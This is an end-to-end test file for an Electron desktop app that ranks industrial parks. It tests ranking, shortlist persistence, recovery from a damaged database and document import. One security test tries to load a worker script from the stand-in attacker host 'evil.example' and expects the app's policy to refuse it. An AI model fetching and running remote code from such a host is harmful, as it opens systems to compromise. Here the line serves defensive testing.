/** The workbench's flows in the desktop app: the built renderer around the real shell. */
import { copyFileSync, existsSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import path from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import {
  builtCatalogue,
  openView,
  saveShortlist,
  scoresByDistance,
  setOnlyWeights,
  setWeight,
  shortlistNames,
  shownCount,
  shownRows,
  tick,
  waitForRanking,
} from "../e2e/workbench-flows";
import { freshFolder } from "../support/browser";
import { type Desktop, electronBinary, launchDesktop } from "../support/desktop";

const opened = new Map<Desktop, string[]>();

async function open(appData = freshFolder("parkwise-workbench-"), args: readonly string[] = []): Promise<Desktop> {
  const desktop = await launchDesktop({ appData, args });
  const problems: string[] = [];
  desktop.page.on("pageerror", (error) => problems.push(error.message));
  desktop.page.on("console", (message) => {
    if (message.type() === "error") problems.push(message.text());
  });
  opened.set(desktop, problems);
  return desktop;
}

/** Nothing was thrown, no policy was violated, nothing wanted to leave the machine. */
async function expectClean(desktop: Desktop): Promise<void> {
  expect(opened.get(desktop)).toEqual([]);
  expect((await desktop.page.evaluate(() => host.appInfo())).blockedRequests).toBe(0);
  if (desktop.kind === "stand-in") {
    expect(await desktop.main(({ standin }) => standin.registered.leaks, null)).toEqual([]);
  }
}

/** Waits for a mirror that holds the named shortlist. */
async function mirrored(desktop: Desktop, name: string): Promise<void> {
  const file = path.join(desktop.userData, "mirror/current.json");
  const names = () => {
    if (!existsSync(file)) return [];
    const { body } = JSON.parse(readFileSync(file, "utf8")) as { body: { shortlists: { name: string }[] } };
    return body.shortlists.map((shortlist) => shortlist.name);
  };
  await expect.poll(names, { timeout: 15_000 }).toContain(name);
}

async function saveTop(desktop: Desktop, name: string): Promise<string> {
  const top = (await shownRows(desktop.page))[0]?.name ?? "";
  await tick(desktop.page, top);
  await saveShortlist(desktop.page, name);
  return top;
}

afterEach(async () => {
  for (const desktop of opened.keys()) await desktop.close();
  opened.clear();
});

describe("the workbench in the desktop app", () => {
  it("runs in Electron itself", async (context) => {
    if (electronBinary() === null) {
      context.skip("Electron's own program is not installed; these flows ran on the stand-in");
    }
    const desktop = await open();
    expect(desktop.kind).toBe("electron");
    expect((await desktop.page.evaluate(() => host.appInfo())).runtime).toMatch(/^Electron 45\./);
  });

  it("ranks every park, as an independent computation says, under the strict policy", async () => {
    const desktop = await open();
    const { page } = desktop;
    await waitForRanking(page);
    const catalogue = builtCatalogue();
    expect(await shownCount(page)).toBe(catalogue.parks.length);
    const weights = { "Proximity to China": 60, "Proximity to ports": 30 };
    await setOnlyWeights(page, weights);
    const rows = await shownRows(page);
    expect(rows.map(({ score }) => score)).toEqual(
      scoresByDistance(catalogue, weights)
        .slice(0, rows.length)
        .map(({ score }) => Number((score * 100).toFixed(1))),
    );
    await expectClean(desktop);
  });

  it("keeps a shortlist over a kill right after the save", async () => {
    const appData = freshFolder("parkwise-workbench-");
    const first = await open(appData);
    await waitForRanking(first.page);
    await setWeight(first.page, "Labour supply", 100);
    await saveTop(first, "Đà Nẵng 10 ha");
    await first.kill();
    opened.delete(first);

    const second = await open(appData);
    await waitForRanking(second.page);
    expect(await shortlistNames(second.page)).toEqual(["Đà Nẵng 10 ha"]);
    await openView(second.page, "Ranking");
    expect(await second.page.getByRole("slider", { name: "Labour supply", exact: true }).inputValue()).toBe("100");
    await expectClean(second);
  });

  it("writes its mirror when it is closed, before the debounce has run out", async () => {
    const desktop = await open();
    await waitForRanking(desktop.page);
    await saveTop(desktop, "Saved on the way out");
    await desktop.close();
    opened.delete(desktop);
    await mirrored(desktop, "Saved on the way out");
  });

  it.each([
    ["deleted", (folder: string) => rmSync(folder, { recursive: true })],
    [
      "overwritten with garbage",
      (folder: string) => {
        for (const name of readdirSync(folder, { recursive: true, encoding: "utf8" })) {
          if (/CURRENT$|MANIFEST|\.ldb$|\.log$/.test(name)) writeFileSync(path.join(folder, name), "garbage");
        }
      },
    ],
  ])("brings shortlists back from the mirror when the database was %s", async (_how, damage) => {
    const appData = freshFolder("parkwise-workbench-");
    const first = await open(appData);
    await waitForRanking(first.page);
    await saveTop(first, "Only in the mirror");
    await mirrored(first, "Only in the mirror");
    await first.close();
    opened.delete(first);
    const mirrorBefore = readFileSync(path.join(first.userData, "mirror/current.json"), "utf8");
    damage(path.join(first.profile, "IndexedDB"));

    const second = await open(appData);
    await second.page.getByRole("button", { name: "Restore" }).first().waitFor();
    // Nothing has taken the mirror's place in the meantime.
    expect(readFileSync(path.join(first.userData, "mirror/current.json"), "utf8")).toBe(mirrorBefore);
    await second.page.getByRole("button", { name: "Restore" }).first().click();
    await waitForRanking(second.page);
    expect(await shortlistNames(second.page)).toEqual(["Only in the mirror"]);
  });

  it("takes in a document that was double-clicked, and obeys the menu in the interface's language", async () => {
    const first = await open();
    await waitForRanking(first.page);
    await saveTop(first, "From a colleague");
    await mirrored(first, "From a colleague");
    // A mirror is a document like any other.
    const file = path.join(freshFolder("parkwise-document-"), "Đề xuất.parkwise");
    copyFileSync(path.join(first.userData, "mirror/current.json"), file);

    const second = await open(freshFolder("parkwise-workbench-"), [file]);
    const dialog = second.page.getByRole("dialog", { name: /Đề xuất\.parkwise/ });
    await dialog.getByRole("button", { name: "Import" }).click();
    await expect.poll(() => shortlistNames(second.page)).toEqual(["From a colleague"]);

    const items = await second.main(({ Menu }) => {
      const menu = Menu.getApplicationMenu();
      const item = (id: string) => menu?.getMenuItemById(id);
      item("view:ranking")?.click();
      return ["open", "undo", "view:ranking", "shell.about"].map((id) => item(id)?.label ?? null);
    }, null);
    expect(items).toEqual(["Open…", "Undo", "Ranking", "About Parkwise"]);
    await waitForRanking(second.page);
    await second.main(({ Menu }) => Menu.getApplicationMenu()?.getMenuItemById("commands")?.click(), null);
    await second.page.getByRole("combobox", { name: "Commands" }).waitFor();
    await expectClean(second);
  });

  it("may start its own workers and compile its own kernel, and no foreign script", async () => {
    const desktop = await open();
    await waitForRanking(desktop.page);
    const tried = await desktop.page.evaluate(async () => {
      const attempt = (address: string) => {
        try {
          new Worker(address, { type: "module" }).terminate();
          return "started";
        } catch {
          return "refused";
        }
      };
      const script = document.querySelector<HTMLScriptElement>("script[src]")?.src ?? "";
      const empty = new Uint8Array([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]);
      return {
        own: attempt(script),
        foreign: attempt("https://evil.example/worker.js"),
        blob: attempt(URL.createObjectURL(new Blob(["1"], { type: "text/javascript" }))),
        kernel: await WebAssembly.compile(empty).then(
          () => "compiled",
          () => "refused",
        ),
        code: (() => {
          try {
            return String(new Function("return 1")());
          } catch {
            return "refused";
          }
        })(),
      };
    });
    expect(tried).toEqual({ own: "started", foreign: "refused", blob: "refused", kernel: "compiled", code: "refused" });
  });
});
